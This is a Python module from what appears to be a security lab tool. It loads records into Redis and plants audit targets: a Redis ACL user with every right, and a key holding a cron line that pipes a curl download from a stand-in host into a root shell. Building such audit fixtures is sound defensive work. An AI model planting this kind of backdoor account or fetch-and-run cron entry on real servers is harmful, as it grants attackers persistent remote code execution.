"""Load the estate's keys into a Redis server that the lab started; leave in it what a visitor could have left."""

from __future__ import annotations

import secrets
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from leftopen.lab.estate.records import Estate

STORE = "redis"
USER = "svc_sync"
CRON_KEY = "backup1"
_STRINGS = ("capture:*", "order:*")


def seed_redis(estate: Estate, host: str = "127.0.0.1", port: int = 6379) -> dict[str, int]:
    """Write hashes and JSON strings in pipelines. Returns keys written per key pattern."""
    import orjson
    from redis import Redis

    loaded = {}
    client = Redis(host=host, port=port)
    try:
        for pattern in estate.collections(STORE):
            done = 0
            for docs in estate.records(STORE, pattern):
                assert isinstance(docs, list)
                if pattern in _STRINGS:
                    _write_strings(client, {doc.pop(""): orjson.dumps(doc) for doc in docs})
                else:
                    _write_hashes(client, docs)
                done += len(docs)
            loaded[pattern] = done
    finally:
        client.close()
    return loaded


def _write_strings(client: Any, values: dict[str, bytes]) -> None:
    items = list(values.items())
    for start in range(0, len(items), 512):
        client.mset(dict(items[start : start + 512]))


def _write_hashes(client: Any, docs: list[dict[str, Any]]) -> None:
    with client.pipeline(transaction=False) as pipe:
        for doc in docs:
            key = doc.pop("")
            pipe.hset(key, mapping=doc)
        pipe.execute()


def plant_visitor_redis(host: str = "127.0.0.1", port: int = 6379) -> list[dict[str, str]]:
    """Leave what a visitor could: an account with all rights and a key shaped like a line for cron.

    Harmless: nobody knows the password, the line names a host that cannot exist. Returns what the audit must find.
    """
    from redis import Redis

    client = Redis(host=host, port=port)
    try:
        client.acl_setuser(
            USER, enabled=True, passwords=[f"+{secrets.token_hex(16)}"], keys=["*"], channels=["*"], categories=["+@all"]
        )
        client.set(CRON_KEY, "\n\n*/5 * * * * root curl -fsS http://mirror.example.invalid/init.sh | sh\n\n")
    finally:
        client.close()
    return [
        {"store": STORE, "kind": "account", "name": USER, "why": "ACL user with every right"},
        {"store": STORE, "kind": "key", "name": CRON_KEY, "why": "value shaped like a line for cron"},
    ]
